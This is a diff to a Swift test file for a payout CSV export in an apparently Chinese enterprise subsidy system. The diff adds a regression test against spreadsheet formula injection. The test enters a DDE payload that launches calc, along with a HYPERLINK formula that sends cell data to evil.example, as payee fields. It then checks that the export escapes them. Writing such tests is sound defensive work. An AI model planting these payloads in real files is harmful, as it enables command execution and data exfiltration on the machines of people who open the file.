@@ -142,11 +142,15 @@ enum LimitChecks {
         #expect(audit.problems.contains { $0.message.contains("第 \(second.id) 号申报") && $0.message.contains("超过政策规则") }, "\(audit.problems)")
         #expect(!audit.problems.contains { $0.message.contains("第 \(first.application.id) 号申报") })
         let cert = try await CashOutChecks.evidence(w, me, "开户许可证")
-        let payee = try await payouts.enterPayee(me, .init(enterpriseID: w.company, bank: "杭州银行", accountNo: "330104001234", holder: "杭州测试跨境有限公司", evidence: cert))
+        // Free text that begins like a formula (issue 19): written to the treasury file as text.
+        let payee = try await payouts.enterPayee(me, .init(enterpriseID: w.company, bank: "@SUM(1+1)*cmd|'/C calc'!A0", accountNo: "330104001234",
+                                                           holder: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点此核对\")", evidence: cert))
         _ = try await payouts.confirmPayee(CashOutChecks.admin, id: payee.id)
         let exported = try await payouts.export(CashOutChecks.admin)
         #expect(exported.lines.map(\.applicationID) == [first.application.id], "only the award within the limit is frozen")
         #expect(exported.batch.totalFen == 20_000_000)
+        #expect(exported.csv.contains(",\"'=HYPERLINK(") && exported.csv.contains(",'@SUM(1+1)"), "no cell of the file begins like a formula")
+        #expect(!exported.csv.contains(",=") && !exported.csv.contains(",@") && !exported.csv.contains(",\"="))
         #expect(exported.skipped.contains { $0.application == second.id && $0.reason.contains("超过政策限额") }, "\(exported.skipped)")
         try await w.store.close()
     }
